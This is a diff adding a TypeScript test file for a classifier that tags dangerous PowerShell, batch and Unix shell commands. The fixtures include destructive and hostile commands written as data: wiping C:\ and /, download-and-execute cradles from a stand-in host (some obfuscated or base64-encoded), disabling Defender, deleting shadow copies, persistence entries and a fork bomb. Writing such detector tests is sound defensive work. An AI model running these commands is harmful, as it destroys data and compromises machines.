@@ -1,0 +1,84 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { expectHazards, seen } from './seen.ts';
+
+const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
+
+expectHazards(
+  [
+    ['Remove-Item -Recurse -Force C:\\', 'deletes deletes-around deletes-everything'],
+    ['Remove-Item -Recurse build', 'deletes deletes-around'],
+    [
+      "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
+      'dynamic fetches-file runs-download',
+    ],
+    [
+      "I`E`X (New-Object Net.WebClient).DownloadString('http://a.example/x')",
+      'dynamic fetches-file runs-download',
+    ],
+    ['iwr http://a.example/x | iex', 'dynamic fetches-file runs-download'],
+    ["&('I'+'EX') 'whoami'", 'dynamic'],
+    ["& ('{1}{0}' -f 'EX','I') $x", 'dynamic'],
+    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'disables-protection'],
+    ['Stop-Computer', 'stops-machine'],
+    ['Format-Volume -DriveLetter C', 'writes-disk'],
+    ['New-LocalUser x', 'changes-accounts'],
+    ['Get-ChildItem env:', 'shows-environment'],
+    ['Write-Host hello', ''],
+    ['Get-ChildItem . | Sort-Object Name', ''],
+    ['python train.py', ''],
+    ['Invoke-Strange -Thing', 'not-understood'],
+  ],
+  'powershell',
+);
+
+expectHazards(
+  [
+    ['del /s /q C:\\*', 'deletes-around deletes-everything'],
+    ['rd /s /q C:\\Windows', 'deletes-around deletes-everything'],
+    ['r^d /s /q C:\\Windows', 'deletes-around deletes-everything'],
+    ['rmdir /s /q build', 'deletes-around'],
+    ['format c: /y', 'writes-disk'],
+    ['vssadmin delete shadows /all /quiet', 'destroys-data'],
+    [
+      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe',
+      'persistence system-settings',
+    ],
+    ['certutil -urlcache -split -f http://a.example/x.exe x.exe', 'fetches-file'],
+    ['mshta http://a.example/x.hta', 'hidden-command runs-download'],
+    ['rundll32 x.dll,Run', 'hidden-command'],
+    ['schtasks /create /tn x /tr x.exe /sc minute', 'persistence'],
+    ['net user x y /add', 'changes-accounts'],
+    ['%0|%0', 'fork-bomb'],
+    ['shutdown /s /t 0', 'stops-machine'],
+    ['@echo off', ''],
+    ['dir & type notes.txt', ''],
+    ['strange.exe /x', 'not-understood'],
+  ],
+  'batch',
+);
+
+test('an encoded command is decoded and judged', async () => {
+  const script = `powershell -NoP -enc ${encode("IEX (iwr 'http://a.example')")}`;
+  const { hazards } = await seen(script);
+  assert.ok(hazards.includes('shell-runs-decoded'));
+  assert.ok(hazards.includes('shell-runs-download'));
+});
+
+test('words of Windows in a text whose dialect is not known are told, and bash is read all the same', async () => {
+  const { hazards } = await seen('del /s /q C:\\* & rm -rf /');
+  assert.ok(hazards.includes('shell-deletes-everything'));
+});
+
+test('bash is not taken for PowerShell', async () => {
+  const { hazards } = await seen('if [ -e /usr/share/x ]; then rmdir --ignore-fail-on-non-empty out; fi');
+  assert.deepEqual(hazards, ['shell-deletes']);
+});
+
+test('a shell that is not bash is read, and told as not understood', async () => {
+  assert.deepEqual((await seen('rm -rf /', 'fish')).hazards, [
+    'shell-deletes-everything',
+    'shell-not-understood',
+  ]);
+  assert.deepEqual((await seen('rm -rf /', 'zsh')).hazards, ['shell-deletes-everything']);
+});
